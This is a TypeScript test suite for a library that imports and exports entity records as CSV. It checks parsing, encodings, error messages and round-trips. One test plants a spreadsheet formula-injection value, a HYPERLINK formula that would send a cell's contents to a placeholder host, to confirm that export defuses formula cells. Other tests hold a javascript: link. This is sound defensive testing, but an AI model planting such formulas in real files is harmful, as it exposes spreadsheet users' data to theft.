import { describe, expect, it } from 'vitest';
import { exportCsv, parseEntityFile, type Entity } from '../../../src/core/entities';

const NOW = new Date('2025-06-01T12:00:00Z');

function ok(input: string | Uint8Array, options = {}) {
  const result = parseEntityFile(input, { now: NOW, ...options });
  if (!result.ok) throw new Error(`refused: ${result.error}`);
  expect(result.format).toBe('csv');
  return result.entities;
}
function refusal(input: string | Uint8Array, options = {}): string {
  const result = parseEntityFile(input, { now: NOW, ...options });
  if (result.ok) throw new Error('expected a refusal');
  return result.error;
}

const RAJNATH: Entity = {
  id: 'rajnath-singh',
  name: 'Rajnath Singh',
  aliases: ['राजनाथ सिंह'],
  type: 'person',
  summary: 'Indian politician; Minister of Defence since 2019.',
  notes: 'Met Gen Nakatani in New Delhi, May 2025.',
  tags: ['india', 'defence'],
  links: [{ title: 'Wikipedia', url: 'https://en.wikipedia.org/wiki/Rajnath_Singh' }],
  updatedAt: '2025-05-06T00:00:00Z',
};

describe('CSV import (CONTRACT §2)', () => {
  it('reads every column, in any order and any case', () => {
    const csv = [
      'Type,NAME,id,aliases,summary,notes,tags,links,updatedAt',
      'person,Rajnath Singh,rajnath-singh,राजनाथ सिंह,"Indian politician; Minister of Defence since 2019.",' +
        '"Met Gen Nakatani in New Delhi, May 2025.",india|defence,Wikipedia <https://en.wikipedia.org/wiki/Rajnath_Singh>,2025-05-06T00:00:00Z',
    ].join('\n');
    expect(ok(csv)).toEqual([RAJNATH]);
  });

  it('needs only a name column; the rest take their defaults', () => {
    expect(ok('name\nJapan\nNew Delhi\n')).toEqual([
      { id: 'japan', name: 'Japan', aliases: [], type: 'other', summary: '', notes: '', tags: [], links: [], updatedAt: NOW.toISOString() },
      { id: 'new-delhi', name: 'New Delhi', aliases: [], type: 'other', summary: '', notes: '', tags: [], links: [], updatedAt: NOW.toISOString() },
    ]);
  });

  it('splits lists at | and reads \\| and \\\\ as escapes; blank items and spaces around items go', () => {
    const [e] = ok('name,aliases,tags\nX,"a\\|b | c\\\\d ||  e  |",one|two\\|three\n');
    expect(e.aliases).toEqual(['a|b', 'c\\d', 'e']);
    expect(e.tags).toEqual(['one', 'two|three']);
  });

  it('reads links as "title <url>" or bare urls, of any scheme', () => {
    const [e] = ok('name,links\nX,"Wikipedia <https://w.org/a> | https://bare.org | <mailto:a@b> | Odd \\<title\\> <javascript:x> | a|b\\|c"\n');
    expect(e.links).toEqual([
      { title: 'Wikipedia', url: 'https://w.org/a' },
      { url: 'https://bare.org' },
      { url: 'mailto:a@b' },
      { title: 'Odd <title>', url: 'javascript:x' },
      { url: 'a' },
      { url: 'b|c' },
    ]);
  });

  it('keeps quoted newlines, quotes and delimiters inside values', () => {
    const [e] = ok('name,notes\r\n"Foo, Inc.","line 1\r\nline ""2""\nline 3;x"\r\n');
    expect(e.name).toBe('Foo, Inc.');
    expect(e.notes).toBe('line 1\r\nline "2"\nline 3;x');
  });

  it('reads a byte-order mark, ; as delimiter, and Windows-1252 bytes', () => {
    // "name;summary\nZürich;Café – €5\n" in Windows-1252: ü=FC, é=E9, –=96, €=80.
    const bytes = new Uint8Array([
      ...new TextEncoder().encode('name;summary\nZ'), 0xfc, ...new TextEncoder().encode('rich;Caf'), 0xe9, 0x20, 0x96, 0x20, 0x80,
      ...new TextEncoder().encode('5\n'),
    ]);
    expect(ok(bytes)[0]).toMatchObject({ name: 'Zürich', summary: 'Café – €5', id: 'zurich' });
    const withBom = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('name;aliases\nMünchen;Munich|Monaco di Baviera\n')]);
    expect(ok(withBom)[0]).toMatchObject({ name: 'München', aliases: ['Munich', 'Monaco di Baviera'] });
    expect(ok('\uFEFFname,type\nX,place')[0].type).toBe('place');
  });

  it('reads a one-column sheet whose names hold commas, quoted or not', () => {
    expect(ok('name\r\nBosnia, Herzegovina\r\n"Korea, South"\r\n').map((e) => e.name)).toEqual(['Bosnia, Herzegovina', 'Korea, South']);
    expect(ok('Name\r\nZürich\r\nBern, Stadt\r\n').map((e) => e.name)).toEqual(['Zürich', 'Bern, Stadt']);
  });

  it('reads tab-separated text and Excel\'s sep= line', () => {
    expect(ok('name\ttags\nX\ta|b\n')[0].tags).toEqual(['a', 'b']);
    const lines = ok('sep=;\nname;summary\nX;a,b\n\nY;z\n');
    expect(lines.map((e) => e.summary)).toEqual(['a,b', 'z']);
  });

  it('takes the JSON of the extra column: unknown fields, and known fields the columns lack', () => {
    const [e] = ok('name,extra\nReading,"{""wikidata"":""Q161491"",""guard"":true,""links"":[{""url"":""x"",""rel"":""me""}]}"\n');
    expect(e.extra).toEqual({ wikidata: 'Q161491' });
    expect(e.guard).toBe(true);
    expect(e.links).toEqual([{ url: 'x', rel: 'me' }]);
  });

  it('keeps unknown columns as unknown fields, and reads guard/conflict columns', () => {
    const [e] = ok('name,Source,guard,conflict\nReading,GeoNames,yes,false\n');
    expect(e.extra).toEqual({ Source: 'GeoNames' });
    expect(e.guard).toBe(true);
    expect(e.conflict).toBe(false);
  });

  it('skips blank rows and ignores blank trailing columns', () => {
    expect(ok('name,aliases,,\n\nA,,,\n ,  ,,\nB\n').map((e) => e.name)).toEqual(['A', 'B']);
  });
});

describe('CSV refusals name the line and field', () => {
  it.each([
    ['name,type\nA,person\nB,place\nFoo,company\n', 'line 4: field "type": must be one of person, place, org, event, other'],
    ['name,type\nA,person\n\n,place\n', 'line 4: field "name": required'],
    ['name,notes\n"A","multi\nline"\n,x\n', 'line 4: field "name": required'],
    ['name,id\nA,x\nB,x\n', 'line 3: field "id": "x" is also the id of line 2'],
    ['name,id\nA,_x\n', 'line 2: field "id": must not start with "_"'],
    ['name,updatedAt\nA,06/05/2025\n', 'line 2: field "updatedAt": must be a date such as 2025-05-06, or a date and time such as 2025-05-06T00:00:00Z'],
    ['name,extra\nA,{oops}\n', /^line 2: field "extra": not valid JSON \(/],
    ['name,extra\nA,[1]\n', 'line 2: field "extra": must be a JSON object'],
    ['name,aliases,extra\nA,x,"{""aliases"":[]}"\n', 'line 2: field "aliases" is given both in its column and in "extra"'],
    ['name,guard\nA,maybe\n', 'line 2: field "guard": must be true or false'],
    ['name,summary\nA,x,y\n', 'line 2: the row has 3 values but the header row names 2 columns'],
    ['name,,summary\nA,x,y\n', 'line 2: a value in column 2, which has no name in the header row'],
    ['name,Name\nA,B\n', 'line 1: the column "Name" appears twice'],
    ['name,notes\nA,"never closed\nB,x\n', 'line 2: a quoted value is never closed'],
    ['title,summary\nA,x\n', 'the file is neither JSON nor CSV with a header row naming a "name" column'],
  ])('%j', (csv, message) => {
    const error = refusal(csv);
    if (typeof message === 'string') expect(error).toBe(message);
    else expect(error).toMatch(message);
  });

  it('names the header problem when the file is called .csv', () => {
    expect(refusal('title,summary\nA,x\n', { filename: 'people.csv' })).toBe('line 1: the header row has no "name" column');
  });
});

describe('CSV export', () => {
  it('writes a BOM, the contract columns and CRLF line ends', () => {
    const csv = exportCsv([RAJNATH]);
    expect(csv.startsWith('\uFEFFid,name,aliases,type,summary,notes,tags,links,updatedAt,extra\r\n')).toBe(true);
    expect(csv).toContain('india | defence,Wikipedia <https://en.wikipedia.org/wiki/Rajnath_Singh>,2025-05-06T00:00:00Z,\r\n');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('round-trips awkward values losslessly', () => {
    const awkward: Entity[] = [
      {
        id: 'a;b,c', name: ' "Quoted", name ', aliases: ['a|b', 'c\\', '\\|', ' padded ', '<x>'], type: 'org',
        summary: '', notes: 'line 1\nline 2\r\n\r\n  indented', tags: ['t,1', 't;2', '="formula"'],
        links: [
          { title: 'Title with <angle> and | pipe', url: 'https://x.org/a|b?c=<d>' },
          { url: 'bare <url>' },
          { title: ' spaced ', url: ' also ' },
          { title: 'empty url', url: '' },
        ],
        updatedAt: '2025-05-06T00:00:00.123+05:30', guard: false, conflict: true, extra: { note: 'x', n: [1, { a: null }] },
      },
      { id: 'empty-lists', name: 'E', aliases: [], type: 'other', summary: 's', notes: '', tags: [], links: [], updatedAt: '2025-01-01' },
      // Links the links cell cannot spell travel in extra.
      { id: 'odd-links', name: 'L', aliases: [], type: 'event', summary: '', notes: '', tags: [], updatedAt: '2025-01-01',
        links: [{ url: '' }, { title: '', url: 'u' }, { url: 'v', rel: 'me' }] },
    ];
    const csv = exportCsv(awkward);
    expect(ok(csv)).toEqual(awkward);
    expect(exportCsv(ok(csv))).toBe(csv);
  });

  it('unknown fields survive CSV → entities → CSV, including unknown columns', () => {
    const first = ok('name,Source,extra\nReading,GeoNames,"{""population"":174224}"\n');
    const again = ok(exportCsv(first));
    expect(again).toEqual(first);
    expect(again[0].extra).toEqual({ Source: 'GeoNames', population: 174224 });
  });

  it('defuses cells a spreadsheet would run as formulas, and reads them back exactly', () => {
    const planted: Entity = {
      ...RAJNATH, id: '-id', name: '@handle', aliases: ['=alias', 'b'], summary: '=HYPERLINK("https://x.test/?"&A1,"open")',
      notes: '+1 555', tags: ["'=already", "''-twice"], links: [], updatedAt: '2025-05-06T00:00:00Z',
    };
    const tabbed: Entity = { ...planted, id: 'tab', name: '\tTabbed', aliases: [], summary: '\rcr', notes: "'plain", tags: ['x'] };
    const csv = exportCsv([planted, tabbed]);
    const lines = csv.split('\r\n');
    // Every cell that starts with = + - @ (behind any apostrophes) gets one more apostrophe, and
    // quotes; the start of a cell is what a spreadsheet reads, not the start of each list item.
    expect(lines[1]).toBe(`"'-id","'@handle","'=alias | b",person,"'=HYPERLINK(""https://x.test/?""&A1,""open"")","'+1 555","''=already | ''-twice",,2025-05-06T00:00:00Z,`);
    expect(lines[2]).toBe(`tab,"'\tTabbed",,person,"'\rcr",'plain,x,,2025-05-06T00:00:00Z,`);
    expect(ok(csv)).toEqual([planted, tabbed]);
    expect(exportCsv(ok(csv))).toBe(csv);
  });

  it('reads a sheet defused by another tool as the values it stood for', () => {
    const [e] = ok("name,summary,notes\n'=Corp,'-5 points,'not a formula\n");
    expect(e.name).toBe('=Corp');
    expect(e.summary).toBe('-5 points');
    expect(e.notes).toBe("'not a formula");
  });

  it('writes just the header for no entities, which imports as none', () => {
    expect(ok(exportCsv([]))).toEqual([]);
  });
});
